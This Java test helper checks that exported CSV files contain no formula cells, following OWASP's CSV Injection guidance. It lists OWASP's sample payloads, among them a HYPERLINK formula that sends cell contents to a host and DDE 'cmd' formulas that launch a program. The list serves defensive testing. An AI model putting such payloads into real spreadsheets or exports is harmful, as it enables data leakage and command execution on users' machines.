package dev.sheaf.tests;

import static org.junit.jupiter.api.Assertions.fail;

import dev.sheaf.vocab.io.SafeCsv;
import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;

/**
 * The check every CSV we write must pass: no cell a spreadsheet would evaluate. A cell may start
 * with {@code = + - @}, tab, CR, LF or NUL only when it is a plain number (a negative score);
 * OWASP "CSV Injection" and ASVS 5.0 1.2.10 (CHECKS.md).
 */
final class CsvSafety {
    /** Every leading character OWASP names as dangerous. */
    static final List<Character> DANGEROUS = List.of('=', '+', '-', '@', '\t', '\r', '\n', '\0');

    /** OWASP's example payloads. */
    static final List<String> OWASP_PAYLOADS = List.of(
            "=HYPERLINK(\"http://127.0.0.1/x?leak=\"&A1,\"Error: please click for further information\")",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "\t=1+2",
            "\r=1+2",
            "\n=1+2",
            "\0=1+2");

    private CsvSafety() {
    }

    static boolean unsafe(String cell) {
        if (cell.isEmpty() || !DANGEROUS.contains(cell.charAt(0))) {
            return false;
        }
        try {
            Double.parseDouble(cell);
            return cell.charAt(0) != '-' && cell.charAt(0) != '+';
        } catch (NumberFormatException e) {
            return true;
        }
    }

    static void assertSafe(Path csv) throws IOException {
        try (Reader r = Files.newBufferedReader(csv, StandardCharsets.UTF_8);
             CSVParser p = CSVParser.builder().setReader(r).setFormat(SafeCsv.FORMAT).get()) {
            for (CSVRecord rec : p) {
                for (String cell : rec) {
                    if (unsafe(cell)) {
                        fail(csv + " record " + rec.getRecordNumber() + " has a cell a spreadsheet would evaluate: " + cell);
                    }
                }
            }
        }
    }
}
